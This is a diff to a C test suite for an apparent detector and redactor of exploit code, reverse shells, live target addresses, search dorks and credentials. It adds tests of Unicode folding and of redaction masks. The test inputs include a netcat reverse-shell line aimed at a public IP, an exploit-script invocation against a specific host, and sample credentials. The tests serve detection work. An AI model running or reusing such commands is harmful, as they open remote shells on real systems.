@@ -886,7 +886,7 @@ roundtrip_dir(const char *dir)
         struct emb_doc_err derr;
         struct emb_doc_opts o = { .kind = -1 };
         struct emb_check_report r, r2;
-        if (de->d_name[0] == '.' || strstr(de->d_name, ".json") || strstr(de->d_name, ".htm"))
+        if (de->d_name[0] == '.' || strstr(de->d_name, ".json"))
             continue;
         if (cu_read(dir, de->d_name, &in) != 0)
             continue;
@@ -902,6 +902,10 @@ roundtrip_dir(const char *dir)
                 r.f[i].rule->family != EMB_FAM_NO_REMEDIATION)
                 first = r.f[i].redact_start;
         T_OK(out.len >= first && memcmp(out.data, doc.src, first) == 0);
+        /* the settled copy (checked again and redacted again while needed) */
+        emb_buf_free(&out);
+        out = (struct emb_buf)EMB_BUF_INIT(EMB_DOC_MAX_BYTES * 2);
+        T_EQ_INT(emb_check_redact_settled(E.chk, E.scr, &doc, &r, de->d_name, NULL, &out), EMB_OK);
         T_EQ_INT(cu_scan(&E, de->d_name, out.data, out.len, &r2), 0);
         for (size_t i = 0; i < r2.n; i++) {
             enum emb_check_family f = r2.f[i].rule->family;
@@ -925,9 +929,75 @@ roundtrip_dir(const char *dir)
 static void
 test_redaction_roundtrip(void)
 {
+    static const char *const sets[] = { "corpus/tune", "corpus/dev",  "corpus/dev2", "corpus/dev3",
+                                        "corpus/dev4", "corpus/dev5", "corpus/dev6", "corpus/dev7",
+                                        "corpus/dev8", "corpus/dev9", NULL };
+
     T_OK(roundtrip_dir("tests/check/data") >= 10);
-    if (cu_is_dir("corpus/tune"))
-        T_OK(roundtrip_dir("corpus/tune") >= 10);
+    /* every set but holdout (which is only scored) */
+    for (size_t i = 0; sets[i] != NULL; i++)
+        if (cu_is_dir(sets[i]))
+            T_OK(roundtrip_dir(sets[i]) >= 10);
+}
+
+/* Text copied from web pages: what a reader sees as a space, nothing or an
+ * ASCII digit reads so to the rules too (check/input/fold.c); positions and
+ * excerpts stay those of the input as read. */
+static void
+test_unicode_fold(void)
+{
+    struct emb_check_report r;
+
+    /* NO-BREAK SPACEs between the words of an exploit command */
+    T_EQ_INT(count_rule("## 复现\n\n    python3\xc2\xa0"
+                        "exp.py\xc2\xa0-u\xc2\xa0http://117.50.36.142:8080\n",
+                        "exploit_code.invoke", NULL),
+             1);
+    T_EQ_INT(count_rule("nc\xc2\xa0-e\xc2\xa0/bin/sh 8.210.33.4 4444\n",
+                        "exploit_code.reverse_shell", NULL),
+             1);
+    /* an address in full-width digits, and with ideographic full stops */
+    T_EQ_INT(count_rule("目标：\xef\xbc\x91\xef\xbc\x91\xef\xbc\x97.50.36.142\n",
+                        "live_target.ipv4", &r),
+             1);
+    T_EQ_INT(r.f[0].start, 9); /* the first full-width digit */
+    T_EQ_INT(r.f[0].end, 28);
+    T_EQ_INT(r.f[0].column, 4);
+    emb_check_report_free(&r);
+    T_EQ_INT(count_rule("目标：117\xe3\x80\x82"
+                        "50\xe3\x80\x82"
+                        "36\xe3\x80\x82"
+                        "142\n",
+                        "live_target.ipv4", NULL),
+             1);
+    /* a zero-width space cannot hide the engine's name from the label rule */
+    T_EQ_INT(count_rule("F\xe2\x80\x8bOFA 语法：title=\"星图堡垒机\"\n", "search_dork", NULL), 1);
+    /* ordinary Chinese punctuation does not fold: "完成。5 台" is no address */
+    T_EQ_INT(count_rule("扫描完成。5 台在线，均为 10.0.0.0/8 内网。\n", "live_target", NULL), 0);
+}
+
+/* A redacted copy checked again: masks are not secrets, dotted tokens go
+ * whole, a line that wires a tool to an engine goes whole. */
+static void
+test_redaction_masks(void)
+{
+    T_EQ_INT(count_rule("- Tries the vendor defaults `admin:********` and `root:********`\n",
+                        "credential", NULL),
+             0);
+    T_EQ_INT(count_rule("- Tries the vendor defaults `admin:halden` and `root:12345678`\n",
+                        "credential", NULL),
+             2);
+    {
+        struct emb_check_report r;
+        const char *jwt = "Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9."
+                          "eyJzdWIiOiJtZXJjaGFudCJ9.n3W9qZ2kR7vT4mL8xB1yE6hJ0sD5cF2aG7uK9iOpQ4s\n";
+        T_EQ_INT(count_rule(jwt, "credential.token", &r), 1);
+        T_EQ_INT(r.f[0].redact_end, strlen(jwt) - 1); /* all three parts */
+        emb_check_report_free(&r);
+    }
+    T_EQ_INT(
+        count_rule("FOFA：[redacted-dork]\n\n目标：http://x.x.x.x:8080/\n", "search_dork", NULL),
+        0);
 }
 
 int
@@ -956,6 +1026,8 @@ main(void)
     T_RUN(test_line_near);
     T_RUN(test_span_memo);
     T_RUN(test_huge_paragraph_windows);
+    T_RUN(test_unicode_fold);
+    T_RUN(test_redaction_masks);
     T_RUN(test_redaction_roundtrip);
     cu_engine_free(&E);
     return T_DONE();
